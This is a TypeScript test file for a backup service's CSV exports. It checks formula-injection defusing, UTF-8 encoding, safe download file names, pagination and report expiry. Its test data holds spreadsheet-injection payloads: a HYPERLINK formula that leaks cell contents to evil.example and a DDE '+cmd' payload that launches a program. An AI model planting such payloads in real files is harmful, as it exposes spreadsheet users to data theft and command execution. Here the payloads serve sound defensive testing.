import { parse } from "csv-parse/sync";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { DAY } from "../clock";
import { createJob, type Engine, item, putConnector, Stream } from "../engine-api/api-test-helpers";
import { type SignedInUser, signIn, signInAgain, type TestService } from "../testing/browser-session";
import { createTestApp } from "../testing/test-app";
import { registerJob } from "./job-lifecycle";
import { findReason } from "./reasons";
import { purgeExpiredSkippedItems } from "./retention";

// The CSV downloads (issue 4 §3, §4): parsed back with csv-parse and compared field by field with the
// database, with awkward and hostile text; UTF-8 with a BOM; attachments with safe names; every matching
// job rather than one page; and the skipped-items report's expiry, with the clock moved, not waited for.

const CONNECTOR_NAME = 'Contoso, "Nordic" Ålborg – 東京';

/** Descriptions and names that break naive CSV, and formula payloads a spreadsheet would run. */
const NASTY = [
  '=HYPERLINK("http://evil.example/?"&A1,"Open me")',
  "+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "-2+3",
  "\n=1+1 after a line feed",
  "\tTabbed =1+1",
  "\rCarriage return first",
  'Multi-line\ndescription, with "quotes", and commas',
  "Årsrapport – 年度報告 – Отчёт – عربى – 🙂",
  "plain text",
];

/** What a cell must hold: formula payloads defused with a leading apostrophe, everything else as is. */
const defused = (value: string) => (/^[=+\-@\t\r\n\0]/.test(value) ? `'${value}` : value);

let t: TestService;
let engine: Engine;
let user: SignedInUser;

beforeEach(async () => {
  t = await createTestApp({ scryptLog2N: 12 });
  engine = await t.addAccount("SVC-1");
  await putConnector(engine, "c1", { name: CONNECTOR_NAME, kind: "salesforce" });
  user = await signIn(t, engine.account.id);
});
afterEach(() => t.close());

async function download(path: string) {
  const res = await user.get(path);
  expect(res.status, path).toBe(200);
  const bytes = new Uint8Array(await res.arrayBuffer());
  const text = new TextDecoder("utf-8", { fatal: true, ignoreBOM: true }).decode(bytes);
  const records: string[][] = parse(text.replace(/^\uFEFF/, ""), { relax_column_count: false });
  return { res, bytes, text, header: records[0]!, rows: records.slice(1) };
}

async function jobRows() {
  return t.db
    .selectFrom("jobs")
    .innerJoin("connectors", "connectors.pk", "jobs.connector_pk")
    .selectAll("jobs")
    .select(["connectors.id as connector_id", "connectors.name as connector_name", "connectors.kind as kind"])
    .where("jobs.account_id", "=", engine.account.id)
    .orderBy("jobs.sort_at", "desc")
    .orderBy("jobs.pk", "desc")
    .execute();
}

/** A finished backup with skipped items; returns its stream. */
async function backupWithSkips(
  id: string,
  items: unknown[],
  at = "2026-11-27T11:00:00.000Z",
  end = "2026-11-27T11:30:00.000Z",
) {
  await createJob(engine, { id, description: `Backup ${id}` });
  const s = new Stream(engine, id);
  await s.started(at);
  if (items.length) await s.skipped(items);
  await s.finished({ outcome: "completed", stats: { added: { items: 10, bytes: 1000 } } }, end);
  return s;
}

describe("the job list CSV", () => {
  it("holds every job field by field, formula payloads defused, awkward text intact", async () => {
    for (const [i, description] of NASTY.entries()) {
      const id = `job-${i}`;
      await createJob(engine, { id, type: i % 2 ? "restore" : "backup", description });
      const s = new Stream(engine, id);
      await s.started(new Date(Date.parse("2026-11-27T08:00:00.000Z") + i * 60_000).toISOString());
      if (i % 3 === 0) {
        await s.finished(
          { outcome: "failed", reason: "authentication_failed" },
          new Date(Date.parse("2026-11-27T09:00:00.000Z") + i * 61_000).toISOString(),
        );
      }
    }
    const { header, rows } = await download("/jobs.csv");
    expect(header).toEqual([
      "Job ID",
      "Connector",
      "Connector ID",
      "Connector kind",
      "Type",
      "Status",
      "Reason code",
      "Reason",
      "Scheduled (UTC)",
      "Started (UTC)",
      "Ended (UTC)",
      "Duration (seconds)",
      "Description",
      "Added items",
      "Added bytes",
      "Removed items",
      "Removed bytes",
      "Restored items",
      "Restored bytes",
      "Overwritten items",
      "Overwritten bytes",
      "Skipped items",
      "Skipped bytes",
    ]);
    const db = await jobRows();
    expect(rows).toHaveLength(db.length);
    rows.forEach((row, i) => {
      const j = db[i]!;
      const duration =
        j.started_at && j.ended_at
          ? String(Math.round((Date.parse(j.ended_at) - Date.parse(j.started_at)) / 1000))
          : "";
      expect(row, j.id).toEqual([
        j.id,
        defused(j.connector_name),
        j.connector_id,
        j.kind,
        j.type,
        j.status,
        j.reason ?? "",
        findReason(j.reason)?.title ?? "",
        j.scheduled_at ?? "",
        j.started_at ?? "",
        j.ended_at ?? "",
        duration,
        defused(j.description),
        ...[
          j.added_items,
          j.added_bytes,
          j.removed_items,
          j.removed_bytes,
          j.restored_items,
          j.restored_bytes,
          j.overwritten_items,
          j.overwritten_bytes,
          j.skipped_items,
          j.skipped_bytes,
        ].map(String),
      ]);
    });
    // Spot checks against the literal payloads, so the comparison above cannot pass by accident.
    const byId = new Map(rows.map((r) => [r[0], r]));
    expect(byId.get("job-0")![12]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Open me")`);
    expect(byId.get("job-1")![12]).toBe("'+cmd|' /C calc'!A0");
    expect(byId.get("job-2")![12]).toBe("'@SUM(A1:A9)");
    expect(byId.get("job-3")![12]).toBe("'-2+3");
    expect(byId.get("job-4")![12]).toBe("'\n=1+1 after a line feed");
    expect(byId.get("job-7")![12]).toBe('Multi-line\ndescription, with "quotes", and commas');
    expect(byId.get("job-8")![12]).toBe("Årsrapport – 年度報告 – Отчёт – عربى – 🙂");
    expect(byId.get("job-0")![1]).toBe(CONNECTOR_NAME);
    expect(byId.get("job-0")![9]).toBe("2026-11-27T08:00:00.000Z");
    expect(byId.get("job-3")![6]).toBe("authentication_failed");
    // No cell starts with a character a spreadsheet would treat as a formula.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
  });

  it("is UTF-8 with a byte-order mark, CRLF rows, an attachment with a safe file name, not cached", async () => {
    await createJob(engine, { id: "j1", description: "x" });
    const { res, bytes, text } = await download("/jobs.csv");
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text).toMatch(/^\uFEFFJob ID,/);
    expect(text).toContain("\r\n");
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("cache-control")).toBe("no-store");
    expect(res.headers.get("content-disposition")).toBe(
      `attachment; filename="jobs_SVC-1_2026-11-27.csv"; filename*=UTF-8''jobs_SVC-1_2026-11-27.csv`,
    );
  });

  it("holds every matching job, not one page (more than 100 jobs)", async () => {
    const now = t.clock.now().toISOString();
    for (let i = 0; i < 130; i += 1) {
      await registerJob(t.db, t.clock, engine.account.id, {
        id: `bulk-${String(i).padStart(3, "0")}`,
        connectorId: "c1",
        type: i % 2 ? "restore" : "backup",
        description: `Bulk job ${i}`,
        scheduledAt: new Date(Date.parse(now) - i * 60_000).toISOString(),
      });
    }
    const all = await download("/jobs.csv");
    expect(all.rows).toHaveLength(130);
    expect(new Set(all.rows.map((r) => r[0])).size).toBe(130);
    expect(all.rows[0]![0]).toBe("bulk-000"); // newest first, as the list
    const restores = await download("/jobs.csv?type=restore&size=25");
    expect(restores.rows).toHaveLength(65);
    expect(restores.rows.every((r) => r[4] === "restore")).toBe(true);
    const oldest = await download("/jobs.csv?order=oldest&connector=c1");
    expect(oldest.rows[0]![0]).toBe("bulk-129");
    expect(oldest.rows).toHaveLength(130);
    // The page's Download CSV link carries the page's filters.
    const page = await (await user.get("/jobs?type=restore")).text();
    expect(page).toContain('href="/jobs.csv?type=restore" download=""');
  });
});

describe("the skipped-items CSV", () => {
  const items = [
    item("k01", {
      name: NASTY[0],
      path: '/Finance/Q4, "final"/',
      kind: "file",
      size: 1234,
      reason: "throttled",
    }),
    item("k02", { name: NASTY[1], kind: "mail", size: 77, reason: "api_error" }),
    item("k03", { name: NASTY[2], kind: "record", size: null, reason: "inaccessible" }),
    item("k04", { name: NASTY[3], kind: "contact", size: 5, reason: "bad_request" }),
    item("k05", { name: NASTY[4], path: "\nleading/line/feed", kind: "file", size: 6, reason: "bad_token" }),
    item("k06", { name: NASTY[7], kind: "calendar", size: 7, reason: "other" }),
    item("k07", { name: NASTY[8], path: "/Документы/年度", kind: "file", size: 8, reason: "throttled" }),
    item("k08", { name: "Folder, with a size given", kind: "folder", size: 999, reason: "inaccessible" }),
    item("=k09", { name: "@key is a formula too", kind: "file", size: 9, reason: "throttled" }),
    item("k10", { name: NASTY[5], path: NASTY[6], kind: "site", size: 10, reason: "other" }),
  ];

  it("holds every item field by field, formula payloads defused, folders without a size", async () => {
    await backupWithSkips("b1", items);
    const { header, rows } = await download("/jobs/b1/skipped.csv");
    expect(header).toEqual([
      "Job ID",
      "Connector",
      "Item key",
      "Name",
      "Path",
      "Kind",
      "Size (bytes)",
      "Reason",
    ]);
    const job = await t.db.selectFrom("jobs").selectAll().where("id", "=", "b1").executeTakeFirstOrThrow();
    const db = await t.db
      .selectFrom("skipped_items")
      .selectAll()
      .where("job_pk", "=", job.pk)
      .orderBy("key")
      .execute();
    expect(db).toHaveLength(items.length);
    expect(rows).toHaveLength(db.length);
    rows.forEach((row, i) => {
      const s = db[i]!;
      expect(row, s.key).toEqual([
        "b1",
        CONNECTOR_NAME,
        defused(s.key),
        defused(s.name),
        defused(s.path ?? ""),
        s.kind,
        s.kind === "folder" || s.size === null ? "" : String(s.size),
        s.reason,
      ]);
    });
    const byKey = new Map(rows.map((r) => [r[2], r]));
    expect(byKey.get("k01")![3]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Open me")`);
    expect(byKey.get("k01")![4]).toBe('/Finance/Q4, "final"/');
    expect(byKey.get("k05")![4]).toBe("'\nleading/line/feed");
    expect(byKey.get("'=k09")![3]).toBe("'@key is a formula too");
    expect(byKey.get("k07")![4]).toBe("/Документы/年度");
    expect(byKey.get("k08")![6]).toBe("");
    expect(byKey.get("k03")![6]).toBe("");
    // The statistics count folders as items but never their size.
    expect(job.skipped_items).toBe(10);
    expect(job.skipped_bytes).toBe(1234 + 77 + 5 + 6 + 7 + 8 + 9 + 10);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
  });

  it("holds every item, past the report's page of 50 and the export's chunks", async () => {
    const many = Array.from({ length: 2345 }, (_, i) => item(`key-${String(i).padStart(5, "0")}`));
    await backupWithSkips("big", many);
    const { rows } = await download("/jobs/big/skipped.csv");
    expect(rows).toHaveLength(2345);
    expect(new Set(rows.map((r) => r[2])).size).toBe(2345);
  });

  it("is UTF-8 with a BOM, an attachment named for the connector, job and day in safe characters", async () => {
    await backupWithSkips("b1", [item("k1")]);
    const { res, bytes } = await download("/jobs/b1/skipped.csv");
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(res.headers.get("cache-control")).toBe("no-store");
    const disposition = res.headers.get("content-disposition")!;
    const ascii = /^attachment; filename="([^"]*)"; filename\*=UTF-8''(.+)$/.exec(disposition);
    expect(ascii, disposition).not.toBeNull();
    expect(ascii![1]).toMatch(/^[A-Za-z0-9._-]+$/);
    expect(ascii![1]).toMatch(/^skipped-items_Contoso-Nordic-Alborg-?_b1_2026-11-27\.csv$/);
    expect(decodeURIComponent(ascii![2]!)).toBe(`skipped-items_${CONNECTOR_NAME}_b1_2026-11-27.csv`);
  });

  // BUG (src/csv.ts, outside this change's files): filename* is built with encodeURIComponent, which
  // leaves ' ( ) * ! unencoded; RFC 8187 allows none of ' ( ) * in the value, so a connector named
  // "O'Brien (EU)" gives a header strict parsers reject. Encode those too.
  it("percent-encodes every character RFC 8187 does not allow in filename*", async () => {
    await putConnector(engine, "c2", { name: "O'Brien (EU) *", kind: "sharepoint" });
    await createJob(engine, { id: "b2", connectorId: "c2" });
    const res = await user.get("/jobs/b2/skipped.csv");
    const value = /filename\*=UTF-8''(.+)$/.exec(res.headers.get("content-disposition")!)![1]!;
    expect(value).toMatch(/^[A-Za-z0-9!#$&+.^_`|~%-]+$/);
  });

  describe.each([
    [
      "backup",
      "counts items only",
      "The skipped count includes folders; the skipped size counts items only, not folders.",
    ],
    ["restore", "includes folders", "The skipped count and size both include folders."],
    ["item_restore", "includes folders", "The skipped count and size both include folders."],
  ] as const)("for a %s, whose skipped size %s", (type, _rule, legend) => {
    const mixed = [
      item("a-file", { size: 1_000 }),
      item("b-folder", { kind: "folder", size: 40_000 }),
      item("c-folder-no-size", { kind: "folder", size: null }),
      item("d-mail", { kind: "mail", size: 25 }),
    ];
    const folderCounts = type !== "backup";

    async function jobWithSkips() {
      await createJob(engine, { id: "j1", type, description: `A ${type}` });
      const s = new Stream(engine, "j1");
      await s.started("2026-11-27T11:00:00.000Z");
      await s.skipped(mixed);
      const stats =
        type === "backup" ? { added: { items: 3, bytes: 30 } } : { restored: { items: 3, bytes: 30 } };
      await s.finished({ outcome: "completed", stats }, "2026-11-27T11:30:00.000Z");
    }

    it("says in the report's legend which rule applies to the job's type", async () => {
      await jobWithSkips();
      const report = await (await user.get("/jobs/j1")).text();
      expect(report).toContain(legend);
    });

    it("gives the same skipped size in the statistics, the job list CSV and the skipped-items CSV", async () => {
      await jobWithSkips();
      const expected = 1_000 + 25 + (folderCounts ? 40_000 : 0);
      const report = await (await user.get("/jobs/j1")).text();
      expect(report).toMatch(
        new RegExp(
          `Skipped</th>\\s*<td class="num">4</td>[\\s\\S]*?${expected.toLocaleString("en-US")} bytes`,
        ),
      );
      const list = await download("/jobs.csv");
      const header = list.header;
      const row = list.rows.find((r) => r[0] === "j1")!;
      expect(row[header.indexOf("Skipped items")]).toBe("4");
      expect(row[header.indexOf("Skipped bytes")]).toBe(String(expected));
      const items = await download("/jobs/j1/skipped.csv");
      const sizes = items.rows.map((r) => r[6]!);
      expect(sizes.reduce((sum, v) => sum + (v === "" ? 0 : Number(v)), 0)).toBe(expected);
      expect(items.rows.find((r) => r[2] === "b-folder")![6]).toBe(folderCounts ? "40000" : "");
      expect(items.rows.find((r) => r[2] === "c-folder-no-size")![6]).toBe("");
    });

    it("shows a skipped folder's size in the report's table exactly when the CSV does", async () => {
      await jobWithSkips();
      const report = await (await user.get("/jobs/j1")).text();
      const folderRow = report.slice(
        report.indexOf("Item b-folder"),
        report.indexOf("Item c-folder-no-size"),
      );
      expect(folderRow.includes('title="40,000 bytes"')).toBe(folderCounts);
    });
  });

  it("is a header only for a job without skipped items", async () => {
    await backupWithSkips("b0", []);
    const { rows, header } = await download("/jobs/b0/skipped.csv");
    expect(header[0]).toBe("Job ID");
    expect(rows).toEqual([]);
  });
});

describe("expiry of the skipped-items report", () => {
  // b1 ended at 2026-11-27T11:30Z; kept 30 days after that: until 2026-12-27T11:30Z.
  it("answers 410 after REPORT_RETENTION_DAYS, and the report says since when", async () => {
    await backupWithSkips("b1", [item("k1"), item("k2", { kind: "folder" })]);
    const before = await (await user.get("/jobs/b1")).text();
    expect(before).toContain("list kept until");
    expect(before).toContain('href="/jobs/b1/skipped.csv"');

    t.clock.set("2026-12-27T11:29:59.000Z");
    await signInAgain(user);
    expect((await user.get("/jobs/b1/skipped.csv")).status).toBe(200);

    t.clock.set("2026-12-27T11:30:00.000Z");
    const gone = await user.get("/jobs/b1/skipped.csv");
    expect(gone.status).toBe(410);
    const page = await gone.text();
    expect(page).toContain("Skipped-items report expired on 27 Dec 2026.");
    expect(page).toContain('href="/jobs/b1"');
    const report = await (await user.get("/jobs/b1")).text();
    expect(report).toContain("Skipped-items report expired on 27 Dec 2026.");
    expect(report).not.toContain('href="/jobs/b1/skipped.csv"');
    // The statistics remain.
    expect(report).toMatch(/Skipped<\/th>\s*<td class="num">2<\/td>/);
  });

  it("follows a configured retention", async () => {
    await t.close();
    t = await createTestApp({ scryptLog2N: 12, reportRetentionDays: 7 });
    engine = await t.addAccount("SVC-1");
    await putConnector(engine, "c1", { name: CONNECTOR_NAME, kind: "salesforce" });
    user = await signIn(t, engine.account.id);
    await backupWithSkips("b1", [item("k1")]);
    t.clock.set("2026-12-04T11:29:00.000Z");
    await signInAgain(user);
    expect((await user.get("/jobs/b1/skipped.csv")).status).toBe(200);
    t.clock.advance(60_000);
    const gone = await user.get("/jobs/b1/skipped.csv");
    expect(gone.status).toBe(410);
    expect(await gone.text()).toContain("Skipped-items report expired on 4 Dec 2026.");
  });

  it("shows the expiry date in the user's time zone", async () => {
    // Ended late in the evening UTC: in Tokyo the report expires on the next day.
    await createJob(engine, { id: "late", description: "late" });
    const s = new Stream(engine, "late");
    await s.started("2026-11-27T20:00:00.000Z");
    await s.skipped([item("k1")]);
    await s.finished({ outcome: "completed" }, "2026-11-27T20:30:00.000Z");
    t.clock.set("2026-12-28T00:00:00.000Z");
    await signInAgain(user);
    expect(await (await user.get("/jobs/late/skipped.csv")).text()).toContain("expired on 27 Dec 2026.");
    await user.post("/settings", { time_zone: "Asia/Tokyo" });
    expect(await (await user.get("/jobs/late/skipped.csv")).text()).toContain("expired on 28 Dec 2026.");
  });

  it("purgeExpiredSkippedItems deletes the items of expired jobs and keeps their statistics", async () => {
    await backupWithSkips("old", [
      item("k1", { size: 10 }),
      item("k2", { size: 20 }),
      item("k3", { kind: "folder" }),
    ]);
    await backupWithSkips("recent", [item("k1")], "2026-12-20T10:00:00.000Z", "2026-12-20T10:30:00.000Z");
    await createJob(engine, { id: "running" });
    const run = new Stream(engine, "running");
    await run.started();
    await run.skipped([item("r1")]);

    const now = new Date(Date.parse("2026-11-27T11:30:00.000Z") + 30 * DAY);
    expect(await purgeExpiredSkippedItems(t.db, new Date(now.getTime() - 1), 30)).toBe(0);
    expect(await purgeExpiredSkippedItems(t.db, now, 30, 1)).toBe(1);
    expect(await purgeExpiredSkippedItems(t.db, now, 30)).toBe(0); // nothing left to do

    const rows = await t.db
      .selectFrom("jobs")
      .leftJoin("skipped_items", "skipped_items.job_pk", "jobs.pk")
      .select(["jobs.id", "jobs.skipped_items", "jobs.skipped_bytes", "jobs.skipped_purged_at"])
      .select((eb) => eb.fn.count("skipped_items.key").as("n"))
      .groupBy("jobs.pk")
      .orderBy("jobs.id")
      .execute();
    expect(
      rows.map((r) => [r.id, Number(r.n), r.skipped_items, r.skipped_bytes, r.skipped_purged_at]),
    ).toEqual([
      ["old", 0, 3, 30, now.toISOString()],
      ["recent", 1, 1, 100, null],
      ["running", 1, 1, 100, null],
    ]);

    t.clock.set(now);
    await signInAgain(user);
    expect((await user.get("/jobs/old/skipped.csv")).status).toBe(410);
    const report = await (await user.get("/jobs/old")).text();
    expect(report).toContain("Skipped-items report expired on 27 Dec 2026.");
    expect(report).toMatch(/Skipped<\/th>\s*<td class="num">3<\/td>/);
    expect((await user.get("/jobs/recent/skipped.csv")).status).toBe(200);
  });
});
